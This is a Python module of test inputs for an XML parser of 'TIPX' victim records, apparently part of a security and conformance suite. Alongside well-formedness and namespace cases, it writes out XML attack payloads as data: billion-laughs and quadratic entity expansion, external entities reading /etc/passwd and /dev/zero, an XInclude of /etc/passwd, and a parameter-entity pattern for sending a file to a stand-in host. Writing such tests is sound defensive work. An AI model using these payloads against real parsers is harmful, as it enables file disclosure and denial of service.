"""XML at its edges, by family: what XML 1.0 and its namespaces allow (y) or forbid (n), and attacks (x); and what TIPX says.

The families are those of the public suites of XML parsers and of the known attacks on them; the texts are our own.
"""

from __future__ import annotations

from collections.abc import Iterable

from suite_entries import Entry, entry

NS = "urn:tipx:schema:1"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = (
    "<recordType>victim</recordType><tipxVersion>1.0</tipxVersion><id>urn:uuid:11111111-1111-4111-8111-1111111111d1</id>"
    "<version>1</version><createdAt>2026-03-03T16:05:00+05:00</createdAt><owner><name>Sample Unit</name><type>police</type>"
    "<country>PK</country></owner><personStatus>presumed-victim</personStatus><names><type>legal</type><full>Sample Person</full>"
    "</names><childStatus>unknown</childStatus>"
)
RECORD = f'{HEAD}<victim xmlns="{NS}">{BODY}</victim>'
Rows = Iterable[tuple[str, str | bytes] | tuple[str, str | bytes, str]]


def with_(old: str, new: str, raw: str = RECORD) -> str:
    """The record with one text, which stands in it once, written otherwise."""
    assert raw.count(old) == 1, old
    return raw.replace(old, new)


def text(new: str) -> str:
    """The record with that as the text of a name."""
    return with_("Sample Person", new)


def before(new: str) -> str:
    """The record with that between two elements."""
    return with_("<version>", f"{new}<version>")


def root(attributes: str) -> str:
    """The record with more attributes of its root."""
    return with_(f'xmlns="{NS}"', f'xmlns="{NS}" {attributes}')


def typed(declarations: str, of: str = RECORD, used: str = "") -> str:
    """The record with a document type, and a name that uses it."""
    return with_("<victim", f"<!DOCTYPE victim [{declarations}]>\n<victim", text(used) if used else of)


def prefixed() -> str:
    """The record with a prefix on every element."""
    return (
        RECORD.replace("</", "</t:")
        .replace("<", "<t:")
        .replace("<t:/t:", "</t:")
        .replace("<t:?xml", "<?xml")
        .replace("xmlns", "xmlns:t")
    )


def family(kind: str, of: str, rows: Rows, *usual: str) -> list[Entry]:
    return [entry(f"{kind}_{of}_{row[0]}", row[1], *(row[2:] or usual)) for row in rows]


FORM = [
    *family("y", "form", [
        ("record", RECORD), ("no_declaration", RECORD.replace(HEAD, "")), ("standalone", with_("?>", ' standalone="yes"?>')),
        ("declaration_in_apostrophes", with_('"1.0" encoding="UTF-8"', "'1.0' encoding='UTF-8'")),
        ("space_behind_root", RECORD + "\n \n"),
        ("space_in_end_tag", with_("</full>", "</full \n>")), ("predefined_entities", text("&lt;&gt;&amp;&quot;&apos;")),
        ("character_references", text("&#83;&#x61;&#x6D;&#0000112;")), ("reference_of_the_last_character", text("&#x10FFFF;")),
        ("references_of_white_space", text("a&#9;b&#10;c&#13;d")), ("greater_sign", text("a > b")),
        ("two_brackets", text("a]]b")),
        ("comment_in_text", text("Sam<!-- a -->ple")), ("comments_everywhere",
        f"<!-- a -->{before('<!-- b & < -->')[len(HEAD):]}<!-- c -->"),
        ("empty_comment", before("<!---->")), ("cdata", text("<![CDATA[<Sample> & ]]>")),
        ("cdata_among_text", text("a<![CDATA[b]]>c<![CDATA[]]>d")),
        ("two_cdata_that_join_to_an_end", text("a<![CDATA[]]]]><![CDATA[>]]>b")),
        ("instruction_before", with_("<victim", "<?a b?><victim")),
        ("instruction_behind", RECORD + "<?a b?>"), ("style_sheet", with_("<victim",
        '<?xml-stylesheet href="http://192.0.2.1/a.xsl"?><victim')),
        ("four_bytes", text("\U0001d11e")), ("white_space_between", BODY and with_("</owner>", "\r\n\t </owner>")),
    ]),
    *family("n", "form", [
        ("not_closed", RECORD.replace("</victim>", "")), ("wrong_end", with_("</full>", "</ful>")),
        ("overlap", with_("</full></names>", "</names></full>")),
        ("case_of_end", with_("</full>", "</FULL>")), ("end_without_begin", before("</a>")), ("two_roots", RECORD + "<a/>"),
        ("text_behind", RECORD + "a"),
        ("entity_behind", RECORD + "&amp;"), ("cdata_behind", RECORD + "<![CDATA[]]>"), ("declaration_only", HEAD),
        ("comment_only", "<!-- a -->"),
        ("instruction_only", "<?a b?>"), ("space_before_declaration", " " + RECORD),
        ("comment_before_declaration", "<!-- a -->" + RECORD),
        ("declaration_inside", before(HEAD.strip())), ("declaration_behind", RECORD + HEAD), ("declaration_twice", HEAD + RECORD),
        ("instruction_named_xml", before("<?XmL a?>")), ("declaration_without_version", with_('version="1.0" ', "")),
        ("declaration_out_of_order", with_('version="1.0" encoding="UTF-8"', 'encoding="UTF-8" version="1.0"')),
        ("declaration_unknown_member", with_("?>", ' a="b"?>')), ("standalone_maybe", with_("?>", ' standalone="maybe"?>')),
        ("instruction_not_closed", before("<?a b>")), ("comment_not_closed", before("<!-- a")),
        ("comment_with_two_hyphens", before("<!-- a -- b -->")),
        ("comment_with_three_at_its_end", before("<!-- a --->")), ("cdata_not_closed", text("<![CDATA[a")),
        ("cdata_in_cdata", text("<![CDATA[a<![CDATA[b]]>c]]>")),
        ("cdata_in_small_letters", text("<![cdata[a]]>")), ("cdata_with_space", text("<![ CDATA[a]]>")),
        ("end_of_cdata_in_text", text("a]]>b")),
        ("angle_in_text", text("a < b")), ("angle_and_space", before("< a/>")), ("slash_and_space", with_("</full>", "< /full>")),
        ("ampersand", text("a & b")),
        ("ampersand_last", text("a&")), ("empty_reference", text("&;")), ("reference_not_closed", text("&amp b")),
        ("empty_number_reference", text("&#;")),
        ("empty_hexadecimal_reference", text("&#x;")), ("capital_x_in_reference", text("&#X41;")),
        ("reference_of_letters", text("&#abc;")),
        ("minus_in_reference", text("&#-1;")), ("reference_beyond_unicode", text("&#x110000;")),
        ("reference_of_many_digits", text(f"&#{'9' * 5000};")),
        ("undeclared_entity", text("&nbsp;")), ("capital_entity", text("&AMP;")), ("parameter_entity_in_text", text("a %b; &c;")),
        ("name_begins_with_digit", before("<1a/>")), ("name_begins_with_hyphen", before("<-a/>")),
        ("name_begins_with_point", before("<.a/>")),
        ("name_with_two_colons", before("<a:b:c xmlns:a='urn:a'/>")), ("name_begins_with_colon", before("<:a/>")),
        ("name_ends_with_colon", before("<a:/>")),
        ("name_with_exclamation_mark", before("<a!/>")), ("name_with_picture", before("<\u2603/>")), ("empty_name", before("<>")),
        ("empty_end", with_("</full>", "</>")),
        ("attributes_at_the_end", with_("</full>", '</full a="b">')), ("attribute_without_value", before("<a b/>")),
        ("attribute_without_quotes", before("<a b=c/>")),
        ("attributes_without_space", before("<a b='c'd='e'/>")), ("attribute_twice", before("<a b='c' b='d'/>")),
        ("angle_in_attribute", before("<a b='<'/>")),
        ("ampersand_in_attribute", before("<a b='&'/>")), ("attribute_not_closed", before("<a b='c/>")),
        ("attribute_in_typographic_quotes", before("<a b=\u201cc\u201d/>")),
        ("name_of_digits_as_attribute", before("<a 1='b'/>")), ("doctype_inside", before("<!DOCTYPE a>")),
        ("doctype_behind", RECORD + "<!DOCTYPE a>"),
        ("doctype_in_small_letters", with_("<victim", "<!doctype victim><victim")), ("entity_inside", before('<!ENTITY a "b">')),
        ("section_inside", before("<![INCLUDE[a]]>")),
        ("json_behind", RECORD + "{}"), ("web_page", f'<html xmlns="{NS}"><br></html>'),
        ("other_version", with_('"1.0" enc', '"2.0" enc')),
    ], "malformed"),
    *family("n", "form", [
        ("nul", text("a\0b")), ("control", text("a\x01b")), ("escape", text("\x1b[31m")), ("noncharacter", text("a\uffffb")),
        ("noncharacter_in_comment", before("<!-- \ufffe -->")),
        ("control_in_attribute", before("<a b='\x02'/>")), ("control_in_cdata", text("<![CDATA[\x03]]>")),
        ("control_in_name", before("<a\x04/>")),
        ("reference_of_nul", text("&#0;")), ("reference_of_control", text("&#x1F;")),
        ("reference_of_noncharacter", text("&#xFFFE;")), ("reference_of_backspace", text("&#8;")),
    ], "character"),
    *family("n", "form", [("reference_of_high_half", text("&#xD800;")), ("reference_of_low_half", text("&#57343;")),
    ("references_of_a_pair", text("&#xD834;&#xDD1E;"))],
             "surrogate"),
    *family("n", "form", [
        ("instruction_inside", before("<?a b?>")), ("instruction_in_text", text("a<?b c?>d")),
        ("empty_instruction", before("<?a?>")), ("style_sheet_inside", before("<?xml-stylesheet a?>")),
    ], "instruction"),
]  # fmt: skip

NAMESPACES = [
    *family("y", "namespace", [
        ("prefix_everywhere", prefixed()), ("prefix_on_one_element", with_("<version>1</version>",
        f'<a:version xmlns:a="{NS}">1</a:version>')),
        ("declared_again", with_("<names>", f'<names xmlns="{NS}">')), ("unused_prefix", root('xmlns:a="urn:a"')),
        ("xml_declared_as_itself", root('xmlns:xml="http://www.w3.org/XML/1998/namespace"')),
        ("in_apostrophes", with_(f'"{NS}"', f"'{NS}'")),
        ("uri_with_references", with_(NS, "urn:tipx:schema&#58;1")),
        ("schema_location", root(f'xmlns:i="{XSI}" i:schemaLocation="{NS} http://192.0.2.1/a.xsd"')),
        ("schema_location_without_namespace", root(f'xmlns:i="{XSI}" i:noNamespaceSchemaLocation="file:///etc/passwd"')),
        ("declared_behind_its_use", f'{HEAD}<t:victim xmlns:t="{NS}">{prefixed().split(">", 2)[2]}'.replace("<t:victim xmlns",
        "<t:victim  xmlns")),
    ]),
    *family("n", "namespace", [
        ("prefix_not_declared", before("<a:b/>")), ("prefix_of_attribute_not_declared", before("<a b:c='d'/>")),
        ("prefix_out_of_scope", before("<a xmlns:b='urn:b'/><b:c/>")),
        ("empty_uri_of_a_prefix", before("<a xmlns:b=''/>")), ("xml_bound_to_another", before("<a xmlns:xml='urn:b'/>")),
        ("another_bound_to_xml",
         before("<a xmlns:b='http://www.w3.org/XML/1998/namespace'/>")), ("xmlns_declared", before("<a xmlns:xmlns='urn:b'/>")),
        ("uri_with_a_brace", before("<a xmlns='urn:a}b'/>")), ("uri_of_a_prefix_with_a_brace",
         before("<a xmlns:b='urn:}'/>")), ("another_bound_to_xmlns", before("<a xmlns:b='http://www.w3.org/2000/xmlns/'/>")),
         ("element_named_xmlns", before("<xmlns:a/>")),
        ("attribute_twice_by_two_prefixes", before("<a xmlns:b='urn:b' xmlns:c='urn:b' b:d='1' c:d='2'/>")),
        ("declared_twice", root(f'xmlns="{NS}"')),
    ], "malformed"),
    *family("n", "namespace", [
        ("none", with_(f' xmlns="{NS}"', "")), ("empty", with_(f'"{NS}"', '""')), ("another", with_(NS, "urn:other")),
        ("in_capitals", with_(NS, NS.upper())),
        ("space_around", with_(NS, f" {NS} ")), ("slash_behind", with_(NS, NS + "/")), ("minor_version", with_(NS, NS + ".0")),
        ("line_feed", with_(NS, NS + "&#10;")),
        ("not_latin_digit", with_(NS, "urn:tipx:schema:\u0661")), ("prefix_of_another", prefixed().replace(NS, "urn:other")),
        ("envelope",
         f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>{RECORD.replace(HEAD, "")}</s:Body></s:Envelope>'),
    ], "form"),
    *family("n", "namespace", [("another_major_version", with_(NS, "urn:tipx:schema:2"))], "version"),
    *family("n", "namespace", [
        ("undeclared_for_a_child", before("<a xmlns=''/>")), ("child_of_another",
        before("<version xmlns='urn:other'>1</version>")), ("uri_with_space", before("<a xmlns='urn:a b'/>")),
        ("uri_with_line_feed", before("<a xmlns='urn:a&#10;b'/>")), ("uri_with_opening_brace",
         before("<a xmlns='urn:{a'/>")), ("prefix_bound_anew",
         before("<a:b xmlns:a='urn:a'><a:c xmlns:a='urn:d'/></a:b>")),
         ("inclusion", before("<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='file:///etc/passwd'/>")),
        ("language", before("<a xml:lang='en'/>")), ("base", with_("<full>", "<full xml:base='http://192.0.2.1/'>")),
        ("identity", with_("<full>", "<full xml:id='a'>")),
        ("attribute", with_("<full>", "<full a='b'>")), ("transformation",
        before("<x:template xmlns:x='http://www.w3.org/1999/XSL/Transform'/>")), ("root_attribute", root("a='b'")),
    ], "unknown"),
    *family("n", "namespace", [
        ("type_of_instance", with_("<full>", f"<full xmlns:i='{XSI}' i:type='i:a'>")),
        ("nil_of_instance", with_("<full>", f"<full xmlns:i='{XSI}' i:nil='true'>")),
        ("type_of_root", root(f"xmlns:i='{XSI}' i:type='a'")),
    ], "xsi"),
]  # fmt: skip

_LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
_NESTED_PARAMETERS = '<!ENTITY % a0 "x">' + "".join(
    f'<!ENTITY % a{n} "{f"&#37;a{n - 1};" * 10}">' for n in range(1, 10)
)

ENTITIES = [
    *family("x", "entity", [
        ("billion_laughs", typed(_LAUGHS, used="&a9;")), ("billion_laughs_in_attribute", with_("<full>", "<full a='&a9;'>",
        typed(_LAUGHS))),
        ("billion_laughs_never_used", typed(_LAUGHS)), ("parameter_laughs", typed(f"{_NESTED_PARAMETERS}%a9;")),
        ("quadratic_blowup", typed(f'<!ENTITY a "{"x" * 50_000}">', used="&a;" * 50_000)),
        ("recursion", typed('<!ENTITY a "&b;"><!ENTITY b "&a;">', used="&a;")),
        ("recursion_of_itself", typed('<!ENTITY a "&a;">', used="&a;")),
        ("recursion_of_parameters", typed('<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;">%a;')),
        ("file", typed('<!ENTITY a SYSTEM "file:///etc/passwd">', used="&a;")),
        ("device", typed('<!ENTITY a SYSTEM "file:///dev/zero">', used="&a;")),
        ("address", typed('<!ENTITY a SYSTEM "http://192.0.2.1/a">', used="&a;")),
        ("relative_file", typed('<!ENTITY a SYSTEM "../secret">', used="&a;")),
        ("public", typed('<!ENTITY a PUBLIC "-//A//B" "http://192.0.2.1/a">', used="&a;")),
        ("file_that_is_never_used", typed('<!ENTITY a SYSTEM "file:///etc/passwd">')),
        ("parameter_of_address", typed('<!ENTITY % a SYSTEM "http://192.0.2.1/a"> %a;')), ("parameter_that_sends_a_file", typed(
            '<!ENTITY % a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://192.0.2.1/b"> %b; %c;')),
        ("in_a_default_of_an_attribute", typed('<!ENTITY a "x"><!ATTLIST full b CDATA "&a;">')),
        ("predefined_anew", typed('<!ENTITY lt "&#38;#60;">')),
        ("harmless", typed('<!ENTITY a "Sample">', used="&a;")), ("undeclared_beside_a_type", typed("", used="&a;")),
        ("unparsed", typed(
            '<!NOTATION n SYSTEM "a"><!ENTITY a SYSTEM "b" NDATA n>')),
            ("million_of_them", typed("".join(f'<!ENTITY a{n} "x">' for n in range(100_000)))),
        ("element_inside", typed('<!ENTITY a "<sex>male</sex>">', with_("<childStatus>", "&a;<childStatus>"))),
        ("half_an_element_inside", typed(
            '<!ENTITY a "<full>">', with_("<full>", "&a;"))),
    ], "dtd"),
    *family("x", "type", [
        ("bare", with_("<victim", "<!DOCTYPE victim><victim")),
        ("external_file", with_("<victim", '<!DOCTYPE victim SYSTEM "file:///etc/passwd"><victim')),
        ("external_address", with_("<victim", '<!DOCTYPE victim SYSTEM "http://192.0.2.1/a.dtd"><victim')), ("public", with_(
            "<victim", '<!DOCTYPE victim PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://192.0.2.1/a.dtd"><victim')),
            ("empty_subset", typed("")),
        ("of_another_root", typed("").replace("DOCTYPE victim", "DOCTYPE bundle")), ("comment_in_subset", typed("<!-- ]> -->")),
        ("instruction_in_subset", typed("<?a ]>?>")),
        ("default_of_a_namespace", typed(f'<!ATTLIST victim xmlns CDATA #FIXED "{NS}">', with_(f' xmlns="{NS}"', ""))),
        ("default_of_an_attribute", typed('<!ATTLIST full a CDATA "b">')),
        ("elements_declared", typed("<!ELEMENT victim ANY>")),
        ("behind_a_comment", with_("<victim", "<!-- a --><!DOCTYPE victim><victim")),
        ("behind_an_instruction", with_("<victim", "<?a b?><!DOCTYPE victim><victim")),
        ("twice", with_("<victim", "<!DOCTYPE victim><!DOCTYPE victim><victim")),
        ("before_a_broken_root", with_("<victim", "<!DOCTYPE victim><victim", RECORD[:-3])),
        ("of_a_web_page", "<!DOCTYPE html><html></html>"),
        ("in_a_record_without_declaration", typed('<!ENTITY a "b">').replace(HEAD, "")),
        ("standalone_no", with_("?>", ' standalone="no"?>', typed("%a;<!ENTITY b 'c'>"))),
    ], "dtd"),
    *family("x", "type", [("not_closed", f"{HEAD}<!DOCTYPE victim"),
    ("without_name", with_("<victim", "<!DOCTYPE><victim"))], "malformed"),
]  # fmt: skip

ENCODINGS = [
    *family("y", "encoding", [("small_letters", with_("UTF-8", "utf-8")), ("none_declared", with_(' encoding="UTF-8"', ""))]),
    *family("y", "encoding", [("mark", "\ufeff" + RECORD), ("mark_without_declaration", "\ufeff" + RECORD.replace(HEAD, ""))],
    "mark"),
    *family("n", "encoding", [
        *((f"declared_{name}", with_("UTF-8", name)) for name in (
            "ISO-8859-1", "UTF-16", "UTF-16LE", "UCS-4", "US-ASCII", "windows-1252", "UTF-7", "EBCDIC-CP-US", "Shift_JIS", "UTF8",
            "unknown")),
        ("declared_with_mark", "\ufeff" + with_("UTF-8", "UTF-16"), "encoding", "mark"),
        ("declared_in_apostrophes", with_('"UTF-8"', "'latin1'")),
        ("declared_behind_line_breaks", with_(' encoding="UTF-8"', '\n\tencoding\n=\n"latin1"')),
        *((f"{name}_{how}", mark + with_("UTF-8", "UTF-16").encode(name)) for name, mark, how in (
            ("utf-16-le", b"\xff\xfe", "with_mark"), ("utf-16-be", b"\xfe\xff", "with_mark"), ("utf-16-le", b"", "plain"),
            ("utf-16-be", b"", "plain"),
            ("utf-32-le", b"", "plain"), ("utf-32-be", b"", "plain"), ("utf-32-be", b"\0\0\xfe\xff", "with_mark"))),
        ("utf_16_with_a_type", b"\xff\xfe" + typed(_LAUGHS).encode("utf-16-le")),
    ], "encoding"),
    *family("n", "encoding", [
        ("latin_1_undeclared", text("\u00e9").encode("latin-1")),
        ("overlong_angle", text("\u00e9").encode().replace("\u00e9".encode(), b"\xc0\xbca\xc0\xbe")),
        ("half_as_bytes", text("\u00e9").encode().replace("\u00e9".encode(), b"\xed\xa0\x80")),
        ("cut", RECORD.encode() + b"\xe2\x82"),
        ("broken_in_comment", before("<!--\u00e9-->").encode("latin-1")),
        ("broken_in_name", before("<\u00e9/>").encode("latin-1")),
    ], "not-utf-8"),
    *family("n", "encoding", [("ebcdic", RECORD.encode("cp037")), ("utf_7", RECORD.replace("<", "+ADw-").encode())], "form"),
]  # fmt: skip

SMALL = [*FORM, *NAMESPACES, *ENTITIES, *ENCODINGS]
"""All that is small."""
